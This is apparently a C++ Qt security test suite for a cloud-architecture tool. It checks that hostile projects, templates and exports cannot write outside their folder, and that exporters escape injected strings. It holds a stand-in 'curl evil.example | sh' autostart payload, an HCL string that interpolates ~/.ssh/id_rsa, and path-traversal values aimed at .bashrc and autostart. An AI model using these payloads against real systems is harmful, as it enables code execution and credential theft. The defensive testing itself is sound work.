// Issue 17: a hostile project or template writes outside its folder, and exporters
// that write user strings unescaped. Every attack of the issue is replayed here
// through the real code paths (ProjectFile, the `nimbus` binary, ExportJob and the
// plugins of the build tree, Scaffold, the HCL and YAML writers), in a temporary HOME
// holding a fake ~/.bashrc, ~/.ssh/id_rsa and ~/.config/autostart.

#include "document/project.h"
#include "export/exportjob.h"
#include "export/hclwriter.h"
#include "export/pluginregistry.h"
#include "export/yaml.h"
#include "model/catalog.h"
#include "model/validator.h"
#include "paths.h"
#include "runtime/functionrunner.h"
#include "runtime/functionspec.h"
#include "runtime/instancepool.h"
#include "runtime/scaffold.h"
#include "storage/projectfile.h"
#include "testutil.h"

#include <QDirIterator>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

#include <memory>

using namespace Nimbus;
using namespace NimbusTest;

namespace {
const QString kPlugins = QStringLiteral(NIMBUS_BINARY_DIR "/lib/nimbus-studio/plugins");
const QString kNimbus = QStringLiteral(NIMBUS_BINARY_DIR "/bin/nimbus");
const QStringList kTargets = {QStringLiteral("azure"),      QStringLiteral("cloudrun"), QStringLiteral("knative"),
                              QStringLiteral("openfaas"),   QStringLiteral("sam"),      QStringLiteral("scaleway"),
                              QStringLiteral("serverless"), QStringLiteral("terraform")};
const QByteArray kSecret = "-----BEGIN FAKE KEY----- s3cret-k3y-of-the-user";
const QByteArray kBashrc = "# the user's own .bashrc\n";
const QByteArray kPayload = "Exec=curl evil.example | sh";
// A value that every format must carry as text: interpolations of HCL and of the
// Serverless Framework, quotes, YAML indicators, and line breaks of every kind.
const QString kHostile = QStringLiteral("${file(\"~/.ssh/id_rsa\")} %{ if true }x%{ endif } \"q\" 'q' a: b - c # d\r\n"
                                        "  injected: true\n}\nresource \"evil\" {\u2028\u0085end");

bool hasError(const QList<Diagnostic> &diagnostics, const QString &code, const QString &mentioning = {})
{
    return std::any_of(diagnostics.cbegin(), diagnostics.cend(), [&](const Diagnostic &d) {
        return d.severity == Diagnostic::Severity::Error && d.code == code
               && (mentioning.isEmpty() || d.message.contains(mentioning));
    });
}

QString describe(const QList<Diagnostic> &diagnostics)
{
    QStringList lines;
    for (const Diagnostic &d : diagnostics)
        lines.append(d.code + QLatin1String(": ") + d.message);
    return lines.join(QLatin1Char('\n'));
}

// Every scalar (keys too) of a YAML tree.
void collectScalars(const YAML::Node &node, QStringList *out)
{
    if (node.IsScalar()) {
        out->append(QString::fromStdString(node.Scalar()));
    } else if (node.IsMap()) {
        for (auto it = node.begin(); it != node.end(); ++it) {
            collectScalars(it->first, out);
            collectScalars(it->second, out);
        }
    } else if (node.IsSequence()) {
        for (auto it = node.begin(); it != node.end(); ++it)
            collectScalars(*it, out);
    }
}

void collectJsonStrings(const QJsonValue &value, QStringList *out)
{
    if (value.isString()) {
        out->append(value.toString());
    } else if (value.isArray()) {
        for (const QJsonValue &v : value.toArray())
            collectJsonStrings(v, out);
    } else if (value.isObject()) {
        const QJsonObject o = value.toObject();
        for (auto it = o.begin(); it != o.end(); ++it) {
            out->append(it.key());
            collectJsonStrings(it.value(), out);
        }
    }
}

// The text of each quoted string of an HCL file, as Terraform reads it: escapes
// undone, and "${"/"%{" kept apart from their escaped forms "$${"/"%%{" (which read
// as text). A template that is not escaped is returned with a marker "<interp>".
QStringList hclStrings(const QByteArray &hcl)
{
    QStringList result;
    const QString text = QString::fromUtf8(hcl);
    for (int i = 0; i < text.size(); ++i) {
        if (text.at(i) == QLatin1Char('#')) { // comment to the end of the line
            while (i < text.size() && text.at(i) != QLatin1Char('\n'))
                ++i;
            continue;
        }
        if (text.at(i) != QLatin1Char('"'))
            continue;
        QString value;
        for (++i; i < text.size() && text.at(i) != QLatin1Char('"'); ++i) {
            const QChar c = text.at(i);
            if (c == QLatin1Char('\n'))
                return {QStringLiteral("<raw line break in a string>")};
            if (c == QLatin1Char('\\') && i + 1 < text.size()) {
                const QChar e = text.at(++i);
                if (e == QLatin1Char('n'))
                    value += QLatin1Char('\n');
                else if (e == QLatin1Char('r'))
                    value += QLatin1Char('\r');
                else if (e == QLatin1Char('t'))
                    value += QLatin1Char('\t');
                else if (e == QLatin1Char('u')) {
                    value += QChar(text.mid(i + 1, 4).toUShort(nullptr, 16));
                    i += 4;
                } else
                    value += e;
            } else if ((c == QLatin1Char('$') || c == QLatin1Char('%'))
                       && text.mid(i + 1, 2) == QString(c) + QLatin1Char('{')) {
                value += c;
                value += QLatin1Char('{');
                i += 2;
            } else if ((c == QLatin1Char('$') || c == QLatin1Char('%')) && i + 1 < text.size()
                       && text.at(i + 1) == QLatin1Char('{')) {
                // An interpolation: its expression may hold quoted strings of its own.
                int depth = 0;
                QString expression;
                for (++i; i < text.size(); ++i) {
                    if (text.at(i) == QLatin1Char('{'))
                        ++depth;
                    else if (text.at(i) == QLatin1Char('}') && --depth == 0)
                        break;
                    expression += text.at(i);
                }
                value += QLatin1String("<interp:") + expression.mid(1) + QLatin1Char('>');
            } else {
                value += c;
            }
        }
        result.append(value);
    }
    return result;
}
} // namespace

class tst_SecurityPaths : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();

    void confinement_data();
    void confinement();
    void linksThatLeadOut();

    void validatorNamesUnsafePaths_data();
    void validatorNamesUnsafePaths();
    void saveAsRefusesEscapingSource_data();
    void saveAsRefusesEscapingSource();
    void importJsonRefusesEscapingSource();
    void saveAsDoesNotFollowLinks();
    void saveAsKeepsTheFilesItFinds();
    void saveRefusesEscapingCodeFile();

    void importRefusesTemplatePaths_data();
    void importRefusesTemplatePaths();
    void cliImportRefusesTemplatePaths();

    void exportStaysInOutput_data();
    void exportStaysInOutput();
    void exportSkipsLinksInFunctionFolder();
    void exportWriteChecksAgain_data();
    void exportWriteChecksAgain();

    void functionsRunOnlyTheirOwnCode_data();
    void functionsRunOnlyTheirOwnCode();
    void folderSwappedForALinkIsRefusedAtTheNextStart();
    void scaffoldStaysInProject_data();
    void scaffoldStaysInProject();

    void hclEscapesUserStrings();
    void yamlScalarsReadBack_data();
    void yamlScalarsReadBack();
    void exportersEscapeHostileStrings_data();
    void exportersEscapeHostileStrings();

private:
    QString home(const QString &relative = {}) const;
    // Every file and link under HOME, with its content (a link: its target), except
    // under the given folders.
    QMap<QString, QByteArray> snapshot(const QStringList &except = {}) const;
    void writeProject(const QString &path, const QJsonArray &nodes);

    std::unique_ptr<QTemporaryDir> mHome;
    std::unique_ptr<PluginRegistry> mRegistry;
};

void tst_SecurityPaths::initTestCase()
{
    mRegistry = std::make_unique<PluginRegistry>(kPlugins);
    for (const QString &target : kTargets)
        QVERIFY2(mRegistry->exporter(target), qPrintable(target));
}

void tst_SecurityPaths::init()
{
    mHome = std::make_unique<QTemporaryDir>();
    QVERIFY(mHome->isValid());
    QDir().mkpath(home(".ssh"));
    QDir().mkpath(home(".config/autostart"));
    QVERIFY(writeAll(home(".bashrc"), kBashrc));
    QVERIFY(writeAll(home(".ssh/id_rsa"), kSecret));
    QVERIFY(writeAll(home(".config/autostart/keep.desktop"), "Exec=true"));
    // What an attacker's archive unpacks to: a project two folders down, and beside
    // it the files it wants to plant.
    QDir().mkpath(home("dl/evil/a/b/functions/fn"));
    QDir().mkpath(home("dl/evil/.config/autostart"));
    QVERIFY(writeAll(home("dl/evil/.bashrc"), kPayload));
    QVERIFY(writeAll(home("dl/evil/.config/autostart/evil.desktop"), kPayload));
    QVERIFY(writeAll(home("dl/evil/a/b/functions/fn/index.mjs"), "export const handler = async () => 1;\n"));
}

QString tst_SecurityPaths::home(const QString &relative) const
{
    return relative.isEmpty() ? mHome->path() : mHome->filePath(relative);
}

QMap<QString, QByteArray> tst_SecurityPaths::snapshot(const QStringList &except) const
{
    QMap<QString, QByteArray> files;
    QDirIterator it(home(), QDir::AllEntries | QDir::System | QDir::Hidden | QDir::NoDotAndDotDot,
                    QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        const QString relative = QDir(home()).relativeFilePath(path);
        if (std::any_of(except.cbegin(), except.cend(),
                        [&](const QString &e) { return relative == e || relative.startsWith(e + QLatin1Char('/')); }))
            continue;
        const QFileInfo info = it.fileInfo();
        if (info.isSymLink())
            files.insert(relative, "-> " + info.symLinkTarget().toUtf8());
        else if (info.isFile())
            files.insert(relative, readAll(path));
        else
            files.insert(relative, "<dir>");
    }
    return files;
}

void tst_SecurityPaths::writeProject(const QString &path, const QJsonArray &nodes)
{
    QJsonArray objects;
    for (const QJsonValue &n : nodes) {
        const QJsonArray a = n.toArray();
        objects.append(QJsonObject{{"name", a.at(0)}, {"kind", a.at(1)}, {"properties", a.at(2)}});
    }
    QDir().mkpath(QFileInfo(path).absolutePath());
    QVERIFY(writeAll(
        path,
        QJsonDocument(
            QJsonObject{{"format", "nimbus-project"}, {"version", 1}, {"nodes", objects}, {"edges", QJsonArray()}})
            .toJson()));
}

// ---- the helper every check goes through ----

void tst_SecurityPaths::confinement_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<bool>("confined");
    QTest::newRow("plain") << "functions/fn" << true;
    QTest::newRow("dot") << "." << true;
    QTest::newRow("dot inside") << "./functions/./fn" << true;
    QTest::newRow("dots in a name") << "functions/fn..v2" << true;
    QTest::newRow("parent") << ".." << false;
    QTest::newRow("parents") << "../.." << false;
    QTest::newRow("parents, trailing slash") << "../../" << false;
    QTest::newRow("parent inside") << "a/../../../x" << false;
    QTest::newRow("windows parent") << "a\\..\\..\\x" << false;
    QTest::newRow("autostart") << "../../.config/autostart" << false;
    QTest::newRow("absolute") << "/home/user/.ssh" << false;
    QTest::newRow("backslash root") << "\\x" << false;
    QTest::newRow("drive") << "C:/Users" << false;
    QTest::newRow("NUL") << QStringLiteral("fn") + QChar(0) + QStringLiteral("/../x") << false;
    QTest::newRow("line break") << "fn\nx" << false;
    QTest::newRow("empty") << "" << false;
}

void tst_SecurityPaths::confinement()
{
    QFETCH(QString, path);
    QFETCH(bool, confined);
    QCOMPARE(Paths::isConfined(path), confined);
    const Result<QString> resolved = Paths::resolveUnder(home("dl"), path);
    QCOMPARE(resolved.hasValue() && !resolved->isEmpty(), confined);
    QCOMPARE(resolved.errorMessage().isEmpty(), confined);
}

void tst_SecurityPaths::linksThatLeadOut()
{
    const QString root = home("dl/evil/a/b");
    QVERIFY(QFile::link(home(".ssh"), root + "/functions/ssh"));
    QVERIFY(QFile::link(home("nowhere/yet"), root + "/functions/dangling"));
    QVERIFY(QFile::link(root + "/functions/fn", root + "/functions/inside"));
    QVERIFY(Paths::staysUnder(root, root + "/functions/fn/index.mjs"));
    QVERIFY(Paths::staysUnder(root, root + "/functions/new/folder/file"));
    QVERIFY(Paths::staysUnder(root, root + "/functions/inside/index.mjs"));
    QVERIFY(!Paths::staysUnder(root, root + "/functions/ssh/id_rsa"));
    QVERIFY(!Paths::staysUnder(root, root + "/functions/ssh"));
    QVERIFY(!Paths::staysUnder(root, root + "/functions/dangling"));
    QVERIFY(!Paths::staysUnder(root, root + "/functions/dangling/x"));
    QVERIFY(!Paths::staysUnder(root, root + "/../b2"));
    QVERIFY(!Paths::resolveUnder(root, "functions/ssh/id_rsa"));

    const Paths::FolderContents contents = Paths::folderContents(root + "/functions");
    QCOMPARE(contents.files, QStringList{"fn/index.mjs"});
    QCOMPARE(contents.skipped, (QStringList{"dangling", "inside", "ssh"}));
    QCOMPARE(Paths::folderContents(root + "/functions/ssh").skipped, QStringList{"."});
}

// ---- opening and saving projects ----

void tst_SecurityPaths::validatorNamesUnsafePaths_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("name");
    QTest::addColumn<QJsonObject>("properties");
    QTest::addColumn<QString>("property");
    QTest::newRow("source ../..") << "function"
                                  << "fn" << QJsonObject{{"source", "../.."}} << "source";
    QTest::newRow("source autostart") << "function"
                                      << "fn" << QJsonObject{{"source", "../../.config/autostart"}} << "source";
    QTest::newRow("source absolute") << "function"
                                     << "fn" << QJsonObject{{"source", "/home/user/.ssh"}} << "source";
    QTest::newRow("source NUL") << "function"
                                << "fn" << QJsonObject{{"source", QStringLiteral("functions/fn") + QChar(0)}}
                                << "source";
    QTest::newRow("handler ../") << "function"
                                 << "fn" << QJsonObject{{"handler", "../../evil.handler"}} << "handler";
    QTest::newRow("handler absolute") << "function"
                                      << "fn" << QJsonObject{{"handler", "/tmp/evil.handler"}} << "handler";
    QTest::newRow("python handler") << "function"
                                    << "fn" << QJsonObject{{"runtime", "python3.12"}, {"handler", "../x.handler"}}
                                    << "handler";
    QTest::newRow("name a/../../../x") << "function"
                                       << "a/../../../x" << QJsonObject{{"source", "functions/fn"}} << "";
    QTest::newRow("definition ../..") << "state-machine"
                                      << "sm" << QJsonObject{{"definition", "../../x.asl.json"}} << "definition";
    QTest::newRow("definition absolute") << "state-machine"
                                         << "sm" << QJsonObject{{"definition", "/etc/x.json"}} << "definition";
    QTest::newRow("jwks file ../") << "http-route"
                                   << "r" << QJsonObject{{"jwksUrl", "../keys.json"}} << "jwksUrl";
    // ':' would split a folder put on NODE_PATH, PYTHONPATH or PATH into one of the
    // attacker's choosing.
    QTest::newRow("source a:/tmp/x") << "function"
                                     << "fn" << QJsonObject{{"source", "a:/tmp/x"}} << "source";
    QTest::newRow("layer a:/tmp/x") << "layer"
                                    << "lib" << QJsonObject{{"folder", "a:/tmp/x"}} << "folder";
}

void tst_SecurityPaths::validatorNamesUnsafePaths()
{
    QFETCH(QString, kind);
    QFETCH(QString, name);
    QFETCH(QJsonObject, properties);
    QFETCH(QString, property);
    const QString path = home("dl/evil/a/b/project.json");
    writeProject(path, QJsonArray{QJsonValue(QJsonArray{name, kind, properties})});
    Project project(Catalog::builtin());
    ProjectFile file;
    const auto loaded = file.load(path, project);
    QVERIFY2(loaded, qPrintable(loaded.errorMessage()));
    Validator validator(project.catalog(), project.architecture());
    validator.setProjectDirectory(project.directory());
    const QList<Diagnostic> diagnostics = validator.validate();
    const auto it = std::find_if(diagnostics.cbegin(), diagnostics.cend(),
                                 [](const Diagnostic &d) { return d.code == QLatin1String("unsafe-path"); });
    QVERIFY2(it != diagnostics.cend(), qPrintable(describe(diagnostics)));
    QCOMPARE(it->severity, Diagnostic::Severity::Error);
    QVERIFY2(it->message.contains(QLatin1Char('\'') + name + QLatin1Char('\'')), qPrintable(it->message));
    QCOMPARE(it->property, property);
    QCOMPARE(it->nodes, QList<NodeId>{project.architecture().nodeByName(name)->id});
}

void tst_SecurityPaths::saveAsRefusesEscapingSource_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("property");
    QTest::addColumn<QString>("source");
    QTest::addColumn<QString>("saveTo");
    // Saved two folders down, "../.." of the copy is HOME: the attacker's .bashrc
    // beside the project would replace the user's.
    QTest::newRow("../..") << "function"
                           << "source"
                           << "../.."
                           << "p/q/copy.nimbus";
    QTest::newRow("a/../../..") << "function"
                                << "source"
                                << "functions/../../.."
                                << "p/q/copy.nimbus";
    QTest::newRow("../../ as JSON") << "function"
                                    << "source"
                                    << "../../"
                                    << "p/q/copy.json";
    QTest::newRow("absolute") << "function"
                              << "source" << home("dl/evil") << "p/q/copy.nimbus";
    // What a node's path property names (a workflow's definition, a JWKS file) is
    // carried along too, under the same rules.
    QTest::newRow("definition ../..") << "state-machine"
                                      << "definition"
                                      << "../../.bashrc"
                                      << "p/q/copy.nimbus";
    QTest::newRow("definition absolute") << "state-machine"
                                         << "definition" << home(".ssh/id_rsa") << "p/q/copy.nimbus";
    QTest::newRow("jwks ../..") << "http-route"
                                << "jwksUrl"
                                << "../../.bashrc"
                                << "p/q/copy.nimbus";
}

void tst_SecurityPaths::saveAsRefusesEscapingSource()
{
    QFETCH(QString, kind);
    QFETCH(QString, property);
    QFETCH(QString, source);
    QFETCH(QString, saveTo);
    const QString path = home("dl/evil/a/b/project.json");
    writeProject(path, QJsonArray{QJsonValue(QJsonArray{"fn", kind, QJsonObject{{property, source}}})});
    Project project(Catalog::builtin());
    ProjectFile file;
    const auto loaded = file.load(path, project);
    QVERIFY2(loaded, qPrintable(loaded.errorMessage()));
    const auto before = snapshot({"p"});

    const auto failed = file.save(project, home(saveTo));
    QVERIFY(!failed);
    QVERIFY2(failed.errorMessage().contains("'fn'"), qPrintable(failed.errorMessage()));
    QVERIFY2(failed.errorMessage().contains(source), qPrintable(failed.errorMessage()));
    QCOMPARE(readAll(home(".bashrc")), kBashrc);
    QCOMPARE(snapshot({"p"}), before);
    QVERIFY(!QFileInfo::exists(home(saveTo)));
    QCOMPARE(project.filePath(), path);
}

void tst_SecurityPaths::importJsonRefusesEscapingSource()
{
    const QString path = home("dl/evil/a/b/project.json");
    writeProject(path, QJsonArray{QJsonValue(QJsonArray{"fn", "function", QJsonObject{{"source", "../.."}}})});
    const auto before = snapshot({"p"});
    QProcess process;
    process.start(kNimbus, {"import-json", path, home("p/q/copy.nimbus")});
    QVERIFY(process.waitForFinished(60000));
    const QString err = QString::fromUtf8(process.readAllStandardError());
    QCOMPARE(process.exitStatus(), QProcess::NormalExit);
    QVERIFY2(process.exitCode() != 0, qPrintable(err));
    QVERIFY2(err.contains("'fn'") && err.contains("../.."), qPrintable(err));
    QCOMPARE(readAll(home(".bashrc")), kBashrc);
    QCOMPARE(snapshot({"p"}), before);
}

// A path property names one file of the project (a definition, a JWKS file): Save As into
// a folder that has a file of that name keeps it, so a stranger's project that names
// .bashrc cannot replace the user's by being saved in the home folder.
void tst_SecurityPaths::saveAsKeepsTheFilesItFinds()
{
    const QString root = home("dl/evil/a/b");
    QVERIFY(writeAll(root + "/.bashrc", kPayload));
    writeProject(root + "/project.json",
                 QJsonArray{QJsonValue(QJsonArray{"api", "http-route", QJsonObject{{"jwksUrl", ".bashrc"}}})});
    Project project(Catalog::builtin());
    ProjectFile file;
    const auto loaded = file.load(root + "/project.json", project);
    QVERIFY2(loaded, qPrintable(loaded.errorMessage()));
    const auto saved = file.save(project, home("copy.nimbus"));
    QVERIFY2(saved, qPrintable(saved.errorMessage()));
    QCOMPARE(readAll(home(".bashrc")), kBashrc);
    QVERIFY2(file.warnings().join('\n').contains(".bashrc"), qPrintable(file.warnings().join('\n')));
}

void tst_SecurityPaths::saveAsDoesNotFollowLinks()
{
    const QString root = home("w/proj");
    QDir().mkpath(root + "/functions/fn");
    QVERIFY(writeAll(root + "/functions/fn/index.mjs", "export const handler = async () => 1;\n"));
    QVERIFY(QFile::link(home(".ssh/id_rsa"), root + "/functions/fn/id_rsa"));
    QVERIFY(QFile::link(home(".ssh"), root + "/functions/fn/ssh"));
    writeProject(root + "/proj.json",
                 QJsonArray{QJsonValue(QJsonArray{"fn", "function", QJsonObject{{"source", "functions/fn"}}})});
    Project project(Catalog::builtin());
    ProjectFile file;
    const auto loaded = file.load(root + "/proj.json", project);
    QVERIFY2(loaded, qPrintable(loaded.errorMessage()));

    const auto written = file.save(project, home("w2/proj.nimbus"));
    QVERIFY2(written, qPrintable(written.errorMessage()));
    QVERIFY(QFileInfo(home("w2/functions/fn/index.mjs")).isFile());
    QVERIFY(!QFileInfo(home("w2/functions/fn/id_rsa")).exists()
            && !QFileInfo(home("w2/functions/fn/id_rsa")).isSymLink());
    QVERIFY(!QFileInfo::exists(home("w2/functions/fn/ssh")));
    const auto saved = snapshot();
    for (auto it = saved.cbegin(); it != saved.cend(); ++it)
        QVERIFY2(!it.key().startsWith("w2/") || !it.value().contains(kSecret), qPrintable(it.key()));
    const QString warnings = file.warnings().join('\n');
    QVERIFY2(warnings.contains("functions/fn/id_rsa") && warnings.contains("functions/fn/ssh"), qPrintable(warnings));

    // A function folder that is itself a link out of the project is refused whole.
    QVERIFY(QFile::link(home(".ssh"), root + "/functions/keys"));
    writeProject(root + "/proj2.json",
                 QJsonArray{QJsonValue(QJsonArray{"keys", "function", QJsonObject{{"source", "functions/keys"}}})});
    Project linked(Catalog::builtin());
    QVERIFY(file.load(root + "/proj2.json", linked));
    const auto failed = file.save(linked, home("w3/proj.nimbus"));
    QVERIFY(!failed);
    QVERIFY2(failed.errorMessage().contains("'keys'"), qPrintable(failed.errorMessage()));
    QVERIFY(!QFileInfo::exists(home("w3/functions/keys/id_rsa")));
}

void tst_SecurityPaths::saveRefusesEscapingCodeFile()
{
    const QString root = home("w/proj");
    writeProject(root + "/proj.json",
                 QJsonArray{QJsonValue(QJsonArray{"fn", "function", QJsonObject{{"source", "functions/fn"}}})});
    Project project(Catalog::builtin());
    ProjectFile file;
    QVERIFY(file.load(root + "/proj.json", project));
    project.setCodeFile("../../.bashrc", kPayload);
    QVERIFY(!file.save(project, root + "/proj.json"));
    QCOMPARE(readAll(home(".bashrc")), kBashrc);
}

// ---- templates ----

void tst_SecurityPaths::importRefusesTemplatePaths_data()
{
    QTest::addColumn<QString>("fileName");
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<QString>("function");
    const QByteArray sam = "AWSTemplateFormatVersion: '2010-09-09'\nTransform: AWS::Serverless-2016-10-31\nResources:\n"
                           "  Evil:\n    Type: AWS::Serverless::Function\n    Properties:\n      CodeUri: %1\n"
                           "      Handler: index.handler\n      Runtime: nodejs20.x\n";
    QTest::newRow("SAM CodeUri ../../") << "template.yaml" << QByteArray(sam).replace("%1", "../../") << "Evil";
    QTest::newRow("SAM CodeUri absolute")
        << "template.yaml" << QByteArray(sam).replace("%1", home(".ssh").toUtf8()) << "Evil";
    QTest::newRow("SAM handler ../")
        << "template.yaml" << QByteArray(sam).replace("%1", "src").replace("index.handler", "../../../evil.handler")
        << "Evil";
    const QByteArray serverless = "service: evil\nprovider:\n  name: aws\n  runtime: nodejs20.x\nfunctions:\n"
                                  "  evil:\n    handler: %1\n";
    QTest::newRow("serverless handler ../../")
        << "serverless.yml" << QByteArray(serverless).replace("%1", "../../x/index.handler") << "evil";
    QTest::newRow("serverless handler absolute")
        << "serverless.yml" << QByteArray(serverless).replace("%1", "/etc/cron.d/index.handler") << "evil";
}

void tst_SecurityPaths::importRefusesTemplatePaths()
{
    QFETCH(QString, fileName);
    QFETCH(QByteArray, content);
    QFETCH(QString, function);
    const QString path = home("dl/evil/a/b/") + fileName;
    QVERIFY(writeAll(path, content));
    Project project(Catalog::builtin());
    const Result<QList<Diagnostic>> imported = ExportJob::import(path, *mRegistry, project);
    QVERIFY(!imported);
    QVERIFY2(imported.errorMessage().contains(QLatin1Char('\'') + function + QLatin1Char('\'')),
             qPrintable(imported.errorMessage()));
    QCOMPARE(project.architecture().nodeCount(), 0);
}

void tst_SecurityPaths::cliImportRefusesTemplatePaths()
{
    const QString path = home("dl/evil/a/b/template.yaml");
    QVERIFY(writeAll(path, "Transform: AWS::Serverless-2016-10-31\nResources:\n  Evil:\n"
                           "    Type: AWS::Serverless::Function\n    Properties:\n      CodeUri: ../../\n"
                           "      Handler: index.handler\n      Runtime: nodejs20.x\n"));
    const auto before = snapshot({"p"});
    QProcess process;
    process.start(kNimbus, {"import", path, "-o", home("p/q/imported.nimbus")});
    QVERIFY(process.waitForFinished(60000));
    const QString err = QString::fromUtf8(process.readAllStandardError());
    QVERIFY2(process.exitCode() != 0, qPrintable(err));
    QVERIFY2(err.contains("'Evil'") && err.contains("../"), qPrintable(err));
    QCOMPARE(snapshot({"p"}), before);
    QVERIFY(!QFileInfo::exists(home("p/q/imported.nimbus")));
}

// ---- export ----

void tst_SecurityPaths::exportStaysInOutput_data()
{
    QTest::addColumn<QString>("target");
    QTest::addColumn<QString>("attack");
    for (const QString &target : kTargets)
        for (const char *attack :
             {"source ../../.config/autostart", "absolute source", "linked function folder", "name a/../../../x"})
            QTest::addRow("%s, %s", qPrintable(target), attack) << target << QString::fromLatin1(attack);
}

void tst_SecurityPaths::exportStaysInOutput()
{
    QFETCH(QString, target);
    QFETCH(QString, attack);
    const QString root = home("dl/evil/a/b");
    QString name = QStringLiteral("fn");
    QString source = QStringLiteral("functions/fn");
    if (attack.startsWith("source"))
        source = QStringLiteral("../../.config/autostart");
    else if (attack == QLatin1String("absolute source"))
        source = home(".ssh");
    else if (attack == QLatin1String("linked function folder")) {
        QVERIFY(QFile::link(home(".ssh"), root + "/functions/keys"));
        source = QStringLiteral("functions/keys");
    } else
        name = QStringLiteral("a/../../../x");
    writeProject(root + "/project.json", QJsonArray{QJsonArray{name, "function", QJsonObject{{"source", source}}},
                                                    QJsonArray{"jobs", "queue", QJsonObject()}});
    Project project(Catalog::builtin());
    ProjectFile file;
    const auto loaded = file.load(root + "/project.json", project);
    QVERIFY2(loaded, qPrintable(loaded.errorMessage()));
    QVERIFY(project.connectNodes(project.architecture().nodeByName("jobs")->id,
                                 project.architecture().nodeByName(name)->id, "invokes"));

    const ExporterInterface *exporter = mRegistry->exporter(target);
    const ExportOutput output = ExportJob::prepare(*exporter, mRegistry->provider(target),
                                                   ExportJob::input(project, target, {}));
    QVERIFY2(hasError(output.diagnostics, "unsafe-path", QLatin1Char('\'') + name + QLatin1Char('\'')),
             qPrintable(describe(output.diagnostics)));
    for (const ExportFile &f : output.files) {
        QVERIFY2(Paths::isConfined(f.path), qPrintable(f.path));
        QVERIFY2(!f.isCopy() || Paths::staysUnder(root, f.copyFrom), qPrintable(f.copyFrom));
    }

    const auto before = snapshot({"out"});
    // It may refuse; what it must never do is write elsewhere or copy what is outside.
    (void)ExportJob::write(output, home("out/x"), target);
    QCOMPARE(snapshot({"out"}), before);
    QVERIFY(!QFileInfo::exists(home(".config/autostart/evil.desktop")));
    const auto after = snapshot();
    for (auto it = after.cbegin(); it != after.cend(); ++it) {
        if (!it.key().startsWith("out/"))
            continue;
        QVERIFY2(!it.value().contains(kSecret), qPrintable(it.key()));
        QVERIFY2(!it.value().contains(kPayload), qPrintable(it.key()));
    }
}

void tst_SecurityPaths::exportSkipsLinksInFunctionFolder()
{
    const QString root = home("dl/evil/a/b");
    QVERIFY(QFile::link(home(".ssh/id_rsa"), root + "/functions/fn/id_rsa"));
    QVERIFY(QFile::link(home(".ssh"), root + "/functions/fn/ssh"));
    writeProject(root + "/project.json",
                 QJsonArray{QJsonValue(QJsonArray{"fn", "function", QJsonObject{{"source", "functions/fn"}}})});
    Project project(Catalog::builtin());
    ProjectFile file;
    QVERIFY(file.load(root + "/project.json", project));
    for (const QString &target : kTargets) {
        const ExportOutput output = ExportJob::prepare(*mRegistry->exporter(target), mRegistry->provider(target),
                                                       ExportJob::input(project, target, {}));
        const QString all = describe(output.diagnostics);
        QVERIFY2(all.contains("export-link") && all.contains("/id_rsa") && all.contains("/ssh"), qPrintable(all));
        const QString out = home("out/" + target);
        const Result<void> written = ExportJob::write(output, out, target);
        QVERIFY2(written, qPrintable(written.errorMessage()));
        QDirIterator it(out, QDir::AllEntries | QDir::System | QDir::Hidden | QDir::NoDotAndDotDot,
                        QDirIterator::Subdirectories);
        bool copiedCode = false;
        while (it.hasNext()) {
            const QString path = it.next();
            QVERIFY2(!it.fileInfo().isSymLink(), qPrintable(path));
            QVERIFY2(!readAll(path).contains(kSecret), qPrintable(path));
            copiedCode = copiedCode || path.endsWith("/index.mjs");
        }
        QVERIFY2(copiedCode, qPrintable(target));
    }
}

// ExportJob::write checks again whatever output it is given, prepared or not.
void tst_SecurityPaths::exportWriteChecksAgain_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QString>("copyFrom");
    QTest::newRow("file ../../") << "../../.bashrc"
                                 << "";
    QTest::newRow("file absolute") << home(".bashrc") << "";
    QTest::newRow("copy to ../") << "../../.config/autostart" << home("dl/evil/.config/autostart");
    QTest::newRow("copy of a link") << "functions/keys"
                                    << "link";
}

void tst_SecurityPaths::exportWriteChecksAgain()
{
    QFETCH(QString, path);
    QFETCH(QString, copyFrom);
    ExportOutput output;
    output.addFile("template.yaml", "ok\n");
    if (copyFrom == QLatin1String("link")) {
        QVERIFY(QFile::link(home(".ssh"), home("dl/keys")));
        output.copy(path, home("dl/keys"));
    } else if (copyFrom.isEmpty()) {
        output.addFile(path, kPayload);
    } else {
        output.copy(path, copyFrom);
    }
    const auto before = snapshot({"out"});
    const Result<void> written = ExportJob::write(output, home("out/x"), "sam");
    QVERIFY(!written);
    QVERIFY(!written.errorMessage().isEmpty());
    QCOMPARE(snapshot({"out"}), before);
    const auto after = snapshot();
    for (auto it = after.cbegin(); it != after.cend(); ++it)
        QVERIFY2(!it.key().startsWith("out/") || !it.value().contains(kSecret), qPrintable(it.key()));
}

// ---- scaffolds ----

void tst_SecurityPaths::scaffoldStaysInProject_data()
{
    QTest::addColumn<QJsonObject>("properties");
    QTest::addColumn<bool>("linkedFolder");
    QTest::newRow("handler ../../") << QJsonObject{{"source", "functions/fn"},
                                                   {"handler", "../../../../../evil.handler"}}
                                    << false;
    QTest::newRow("handler absolute") << QJsonObject{{"source", "functions/fn"}, {"handler", home("evil.handler")}}
                                      << false;
    QTest::newRow("source ../..") << QJsonObject{{"source", "../../../../.config/autostart"}} << false;
    QTest::newRow("linked source folder") << QJsonObject{{"source", "functions/auto"}} << true;
}

void tst_SecurityPaths::scaffoldStaysInProject()
{
    QFETCH(QJsonObject, properties);
    QFETCH(bool, linkedFolder);
    const QString root = home("dl/evil/a/b");
    if (linkedFolder)
        QVERIFY(QFile::link(home(".config/autostart"), root + "/functions/auto"));
    writeProject(root + "/project.json", QJsonArray{QJsonValue(QJsonArray{"fn", "function", properties})});
    Project project(Catalog::builtin());
    ProjectFile file;
    QVERIFY(file.load(root + "/project.json", project));
    const NodeId fn = project.architecture().nodeByName("fn")->id;
    const auto before = snapshot({"dl/evil/a/b/functions/fn"});
    const Result<Scaffold> scaffold = Scaffold::forFunction(project, fn);
    const Result<void> written = scaffold ? scaffold->write() : Result<void>(scaffold.error());
    QVERIFY(!written);
